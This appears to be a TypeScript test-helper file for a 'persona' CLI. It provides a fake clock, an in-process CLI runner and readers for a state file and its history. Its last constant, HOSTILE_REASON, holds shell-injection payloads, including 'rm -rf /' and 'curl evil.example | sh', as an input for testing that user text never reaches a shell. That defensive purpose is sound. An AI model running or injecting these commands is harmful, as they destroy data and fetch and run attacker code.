import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { runCli } from '../../src/cli/run-cli.js';
import type { TimedCliIo, WaitTiming } from '../../src/cli/switch-wait.js';
import { parseState } from '../../src/switching/parse-state.js';
import type { PersonaState } from '../../src/switching/persona-state.js';
import type { CliRun } from './helpers.js';

/** The test clock's start. */
export const START = Date.parse('2026-03-01T12:00:00Z');

/** A fake clock: `sleep` advances it (and calls `onSleep`), nothing waits for real. */
export class FakeClock implements WaitTiming {
  time = START;
  readonly sleeps: number[] = [];
  onSleep?: (sleeps: number) => void | Promise<void>;

  now = (): number => this.time;
  sleep = async (ms: number): Promise<void> => {
    this.sleeps.push(ms);
    this.time += ms;
    await this.onSleep?.(this.sleeps.length);
  };
}

/** Runs `persona ...argv` in-process in `cwd` as GITHUB_ACTOR alice, on `clock`. */
export async function personaTimed(argv: string[], cwd: string, env: Record<string, string> = {}, clock = new FakeClock()): Promise<CliRun> {
  let stdout = '';
  let stderr = '';
  const io: TimedCliIo = {
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
    cwd,
    env: { GITHUB_ACTOR: 'alice', ...env },
    timing: clock,
  };
  const code = await runCli(argv, io);
  return { code, stdout, stderr };
}

/** The state of the file store `file` in `dir`, or undefined when it was never written. */
export async function fileState(dir: string, file = 'state.json'): Promise<PersonaState | undefined> {
  const text = await readFile(path.join(dir, file), 'utf8').catch(() => undefined);
  return text === undefined ? undefined : parseState(text, file);
}

/** The history lines of the file store `file` in `dir`, oldest first. */
export async function fileHistory(dir: string, file = 'state.json'): Promise<Array<Record<string, unknown>>> {
  const text = await readFile(path.join(dir, `${file}.history.jsonl`), 'utf8').catch(() => '');
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

/** A reason a shell would run, were it ever given to one. */
export const HOSTILE_REASON = 'rollback $(rm -rf /) `curl evil.example | sh` ${HOME} ; echo pwned';
